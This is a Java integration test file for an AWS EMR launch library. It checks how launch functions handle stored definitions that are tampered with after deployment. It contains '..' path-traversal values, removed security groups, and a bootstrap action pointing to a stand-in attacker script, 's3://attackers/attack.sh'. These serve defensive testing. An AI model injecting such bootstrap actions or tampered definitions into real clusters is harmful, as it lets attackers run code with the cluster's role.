package io.github.emrlaunch.core.launch;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.node.ObjectNode;
import io.github.emrlaunch.core.TestApp;
import io.github.emrlaunch.core.TestStack;
import io.github.emrlaunch.core.cluster.ClusterConfiguration;
import io.github.emrlaunch.core.profile.EmrProfile;
import io.github.emrlaunch.definitions.DefinitionDirectory;
import io.github.emrlaunch.definitions.DefinitionName;
import io.github.emrlaunch.definitions.DefinitionType;
import io.github.emrlaunch.definitions.EmrProfileDefinition;
import io.github.emrlaunch.definitions.Json;
import io.github.emrlaunch.local.ExistingResources;
import io.github.emrlaunch.local.LocalAws;
import io.github.emrlaunch.local.LocalExecution;
import io.github.emrlaunch.local.junit.LocalAwsExtension;
import java.nio.file.Path;
import java.util.Objects;
import java.util.function.Consumer;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import software.amazon.awscdk.App;
import software.amazon.awscdk.Stack;
import software.amazon.awscdk.services.ssm.CfnParameter;

/** Attacks by a user who may write one parameter after a launch function has been deployed. */
class ChangedDocumentsIT {
    private static final Path DOCUMENTS = Path.of("../emr-launch-definitions/src/test/resources/python-2.0.1");
    private static final DefinitionDirectory STORED = new DefinitionDirectory(DOCUMENTS);
    private static final DefinitionName PROFILE = DefinitionName.of("sse-kms-profile");
    private static final DefinitionName CONFIGURATION = DefinitionName.of("basic-instance-group-cluster");

    @RegisterExtension
    static final LocalAwsExtension deployed = TestApp.deployed(ChangedDocumentsIT::addStack)
            .region("eu-west-1")
            .existing(ChangedDocumentsIT::declareWhatTheProfileNames);

    private final LocalAws aws = deployed.local();

    /** A launch with the definitions of the folder, while Parameter Store has others. */
    private LocalExecution launch(boolean pinned, Consumer<ObjectNode> profile, Consumer<ObjectNode> configuration)
            throws InterruptedException {
        change(DefinitionType.EMR_PROFILE, PROFILE, profile);
        change(DefinitionType.CLUSTER_CONFIGURATION, CONFIGURATION, configuration);
        LocalExecution execution = deployed.run(pinned ? "default_pinned" : "default_launch", "{}");
        aws.awaitIdle();
        return execution;
    }

    private static void addStack(App app) {
        Stack stack = new Stack(app, "Stack");
        store(stack, DefinitionType.EMR_PROFILE, PROFILE);
        store(stack, DefinitionType.CLUSTER_CONFIGURATION, CONFIGURATION);
        launchFunction(stack, "launch").build();
        launchFunction(stack, "pinned").pinDefinitions(true).build();
    }

    private static EmrLaunchFunction.Builder launchFunction(Stack stack, String name) {
        return EmrLaunchFunction.Builder.create(stack, name)
                .launchFunctionName(name)
                .emrProfile(EmrProfile.fromStoredProfile(
                        TestStack.loadingFrom(DOCUMENTS, stack), "Profile", PROFILE.name(), PROFILE.namespace()))
                .clusterConfiguration(ClusterConfiguration.fromStoredConfiguration(
                        TestStack.loadingFrom(DOCUMENTS, stack),
                        "Configuration",
                        CONFIGURATION.name(),
                        CONFIGURATION.namespace()));
    }

    private static void declareWhatTheProfileNames(ExistingResources existing) {
        EmrProfileDefinition profile = STORED.get(DefinitionType.EMR_PROFILE, PROFILE);
        existing.subnet("subnet-0123456789abcdef0", false)
                .role(lastPart(profile.roles().serviceRole()))
                .role(lastPart(profile.roles().instanceRole()))
                .role(lastPart(Objects.requireNonNull(profile.roles().autoScalingRole())))
                .instanceProfile(
                        lastPart(Objects.requireNonNull(profile.roles().instanceProfile())),
                        lastPart(profile.roles().instanceRole()))
                .securityGroup(profile.securityGroups().masterGroup())
                .securityGroup(profile.securityGroups().workersGroup())
                .securityGroup(Objects.requireNonNull(profile.securityGroups().serviceGroup()))
                .securityConfiguration(Objects.requireNonNull(profile.securityConfiguration()));
    }

    private static String lastPart(String arn) {
        return arn.substring(arn.lastIndexOf('/') + 1);
    }

    private static void store(Stack stack, DefinitionType<?> type, DefinitionName name) {
        CfnParameter.Builder.create(stack, "Stored-" + type.folder())
                .name(type.path(name))
                .type("String")
                .value(STORED.get(type, name).toJsonText())
                .build();
    }

    private void change(DefinitionType<?> type, DefinitionName name, Consumer<ObjectNode> change) {
        ObjectNode document = STORED.get(type, name).toJson();
        change.accept(document);
        aws.existing().parameter(type.path(name), Json.write(document));
    }

    private void assertRefused(LocalExecution execution, String error, String... words) {
        assertThat(execution.status()).isEqualTo("FAILED");
        assertThat(execution.error()).as(execution.cause()).isEqualTo(error);
        assertThat(execution.cause()).contains(words);
        assertThat(aws.clusters()).isEmpty();
    }

    @ParameterizedTest
    @CsvSource({
        "/, SecurityConfiguration",
        "/SecurityGroups, MasterGroup",
        "/SecurityGroups, WorkersGroup",
        "/SecurityGroups, ServiceGroup"
    })
    void launchFailsWhenSecurityMemberIsRemovedFromProfile(String parent, String member) throws InterruptedException {
        assertRefused(
                launch(
                        false,
                        document -> (parent.equals("/") ? document : document.withObject(parent)).putNull(member),
                        ChangedDocumentsIT::leave),
                LaunchErrors.LAUNCH_FUNCTION_OUTDATED,
                "EMR profile 'default/sse-kms-profile'",
                member);
    }

    @ParameterizedTest
    @CsvSource({"LogsPath, ../..", "LogsPath, x/../y", "LogsBucket, a/../b", "ArtifactsPath, x/.."})
    void launchFailsWhenPathInProfileContainsDotDot(String member, String value) throws InterruptedException {
        assertRefused(
                launch(false, document -> document.put(member, value), ChangedDocumentsIT::leave),
                LaunchErrors.INVALID_DEFINITION,
                member,
                value);
    }

    private static void leave(ObjectNode document) {
        assertThat(document).isNotEmpty();
    }

    private static void addBootstrapAction(ObjectNode document) {
        ObjectNode action = Json.object().put("Name", "attack");
        action.putObject("ScriptBootstrapAction").put("Path", "s3://attackers/attack.sh");
        document.withObject("/ClusterConfiguration")
                .putArray("BootstrapActions")
                .add(action);
    }

    /** A user who may write a configuration can run code with the profile's instance role, unless definitions are pinned. */
    @Test
    void launchWithoutPinningRunsAddedBootstrapAction() throws InterruptedException {
        LocalExecution execution = launch(false, ChangedDocumentsIT::leave, ChangedDocumentsIT::addBootstrapAction);

        assertThat(execution.status()).as(execution.cause()).isEqualTo("SUCCEEDED");
        assertThat(aws.clusters().get(0).request().toString()).contains("s3://attackers/attack.sh");
    }

    @Test
    void launchLeavesOutStepsOfStoredConfiguration() throws InterruptedException {
        LocalExecution execution =
                launch(false, ChangedDocumentsIT::leave, document -> document.withObject("/ClusterConfiguration")
                        .put("ScaleDownBehavior", "TERMINATE_AT_INSTANCE_HOUR")
                        .putArray("Steps")
                        .addObject()
                        .put("Name", "Load")
                        .put("ActionOnFailure", "CONTINUE")
                        .putObject("HadoopJarStep")
                        .put("Jar", "command-runner.jar"));

        assertThat(execution.status()).as(execution.cause()).isEqualTo("SUCCEEDED");
        assertThat(aws.clusters().get(0).request().path("ScaleDownBehavior").asText())
                .as("the document is the changed one")
                .isEqualTo("TERMINATE_AT_INSTANCE_HOUR");
        assertThat(aws.clusters().get(0).request().path("Steps")).isEmpty();
    }

    @Test
    void pinnedLaunchFailsWhenBootstrapActionIsAdded() throws InterruptedException {
        assertRefused(
                launch(true, ChangedDocumentsIT::leave, ChangedDocumentsIT::addBootstrapAction),
                LaunchErrors.LAUNCH_FUNCTION_OUTDATED,
                "Cluster configuration 'default/basic-instance-group-cluster'",
                "pinned");
    }

    @Test
    void pinnedLaunchFailsWhenSecurityGroupIsChanged() throws InterruptedException {
        assertRefused(
                launch(
                        true,
                        document -> document.withObject("/SecurityGroups").put("MasterGroup", "sg-0fedcba9876543210"),
                        ChangedDocumentsIT::leave),
                LaunchErrors.LAUNCH_FUNCTION_OUTDATED,
                "EMR profile 'default/sse-kms-profile'",
                "pinned");
    }

    @Test
    void pinnedLaunchSucceedsWithUnchangedDefinitions() throws InterruptedException {
        LocalExecution execution = launch(true, ChangedDocumentsIT::leave, ChangedDocumentsIT::leave);

        assertThat(execution.status()).as(execution.cause()).isEqualTo("SUCCEEDED");
    }
}
